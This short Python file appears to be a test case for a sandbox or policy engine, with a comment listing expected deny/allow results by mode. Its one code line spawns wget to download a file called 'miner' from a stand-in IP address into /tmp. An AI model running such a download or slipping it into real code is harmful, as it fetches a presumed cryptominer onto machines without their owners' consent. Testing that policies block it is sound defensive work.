# expect: strict=deny standard=deny audit=allow
import os

pid = os.spawnv(os.P_WAIT, "/usr/bin/wget", ["wget", "-q", "http://203.0.113.4/miner", "-O", "/tmp/m"])
